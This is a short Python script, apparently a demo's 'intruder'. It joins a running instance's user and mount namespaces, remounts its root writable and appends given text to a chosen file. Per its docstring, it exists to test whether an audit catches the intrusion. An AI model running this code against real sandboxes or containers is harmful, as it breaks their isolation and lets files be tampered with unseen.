"""The demo's intruder: enters a running instance's namespaces, makes its root writable and appends to a file.

A separate program on purpose: `python3 intruder.py PID PATH TEXT`. It needs no more than what the user who started the
instance may do, and it is what the audit has to catch.
"""

import ctypes
import fcntl
import os
import sys

NS_GET_USERNS = 0xB701
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
MS_REMOUNT, MS_BIND = 32, 4096


def main() -> None:
    """Break in, write, say so."""
    pid, path, text = sys.argv[1:]
    libc = ctypes.CDLL(None, use_errno=True)
    mounts = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    owner = fcntl.ioctl(mounts, NS_GET_USERNS)
    if not os.path.sameopenfile(owner, os.open("/proc/self/ns/user", os.O_RDONLY)):
        check(libc.setns(owner, CLONE_NEWUSER))
    check(libc.setns(mounts, CLONE_NEWNS))
    check(libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None))
    with open(path, "a", encoding="utf-8") as file:
        file.write(text)


def check(result: int) -> None:
    """Stop where the kernel says no."""
    if result != 0:
        sys.exit(f"the kernel refused: {os.strerror(ctypes.get_errno())}")


main()
